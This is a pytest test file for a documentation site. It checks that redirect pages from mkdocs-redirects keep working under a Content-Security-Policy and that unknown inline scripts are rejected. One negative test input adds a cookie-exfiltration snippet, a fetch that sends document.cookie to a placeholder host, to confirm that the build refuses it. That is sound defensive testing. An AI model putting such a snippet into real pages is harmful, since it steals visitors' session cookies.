"""Redirect pages (mkdocs-redirects) under the Content-Security-Policy.

A renamed page keeps its old address as a redirect page written by the plugin. That page's
one inline script carries the old address's #anchor over to the new page; the policy allows
it only as the plugin's known script (overrides/hooks/csp.py, REDIRECT_SCRIPT), on redirect
pages only, and a `<meta http-equiv="refresh">` takes readers without JavaScript there too.
The shared changed copy (tests/scratch.py: CHANGED, built once per run) has a renamed page;
its build is checked in a real Chromium with the policy of `_headers` sent as a real header,
as a host that reads it would (no build of its own).
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from hookkit import hooks, problems
from sitepages import serve_with_policy
from test_editor_errors import renamed_with_a_redirect  # registers the rename in scratch.CHANGED


@pytest.fixture(scope="module")
def moved_site(changed_build) -> Path:
    """The shared changed copy (scratch.CHANGED), built once per run: docs/about/disclaimer.md
    renamed to about/legal.md with a redirect (test_editor_errors.renamed_with_a_redirect)."""
    assert renamed_with_a_redirect in changed_build.facts, "the rename is not in the copy"
    assert changed_build.code == 0, changed_build.out[-3000:]
    return changed_build.project / "out"


@pytest.fixture(scope="module")
def csp_server(moved_site):
    """The built copy, served with the policy of its _headers sent as a real HTTP header."""
    with serve_with_policy(moved_site) as url:
        yield url


@pytest.mark.browser
def test_an_old_address_lands_on_the_new_page_under_the_policy(browser, moved_site, csp_server):
    html = (moved_site / "about" / "disclaimer" / "index.html").read_text(encoding="utf-8")
    meta = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', html)
    assert meta, "the redirect page carries no policy of its own"
    assert "unsafe-inline" not in meta.group(1)
    assert '<meta http-equiv="refresh" content="0; url=../legal/">' in html

    context = browser.new_context()  # the page's own policy applies (no bypass_csp)
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    page.goto(f"{csp_server}/about/disclaimer/#disclaimer")
    page.wait_for_url(re.compile(r"/about/legal/"))
    page.wait_for_selector("h1")
    # The anchor came along: only the plugin's script does that (a meta refresh drops it),
    # so the policy let the script run, and nothing was refused.
    assert page.url == f"{csp_server}/about/legal/#disclaimer"
    assert page.title().startswith("Disclaimer")
    assert not [e for e in errors if "Content Security Policy" in e], errors
    context.close()

    # Without JavaScript the meta refresh still takes the reader to the new page.
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{csp_server}/about/disclaimer/")
    page.wait_for_url(re.compile(r"/about/legal/$"))
    page.wait_for_selector("h1")
    assert page.title().startswith("Disclaimer")
    context.close()


def _redirect_page(script: str) -> str:
    return (
        '<!doctype html><html lang="en"><head><meta charset="utf-8">'
        f"<script>{script}</script>"
        '<meta http-equiv="refresh" content="0; url=../legal/"></head><body></body></html>'
    )


PLUGIN_SCRIPT = (
    'var anchor=window.location.hash.substr(1);location.href="../legal/"+(anchor?"#"+anchor:"")'
)


def test_only_the_plugins_own_redirect_script_is_allowed():
    csp = hooks.csp
    from mkdocs_redirects.plugin import HTML_TEMPLATE

    # The installed plugin still writes the script the hash was taken from.
    assert PLUGIN_SCRIPT in HTML_TEMPLATE.format(url="../legal/")
    with problems() as found:
        scripts, _ = csp.hashes(_redirect_page(PLUGIN_SCRIPT), "a redirect", redirect=True)
    assert found.text == "" and scripts == {csp._sha(PLUGIN_SCRIPT)}
    # Any other script on a redirect page fails the build, naming where it came from ...
    with problems() as found:
        csp.hashes(
            _redirect_page(PLUGIN_SCRIPT + ";fetch('https://x.example/'+document.cookie)"),
            "mkdocs.yml (plugins: redirects: redirect_maps: about/disclaimer.md)",
            redirect=True,
        )
    assert "redirect_maps: about/disclaimer.md" in found.text
    assert "inline script that is not one of the site's own" in found.text
    # ... and the plugin's script is not allowed on an ordinary page.
    with problems() as found:
        csp.hashes(_redirect_page(PLUGIN_SCRIPT), "docs/about/x.md")
    assert "docs/about/x.md" in found.text and "not one of the site's own" in found.text
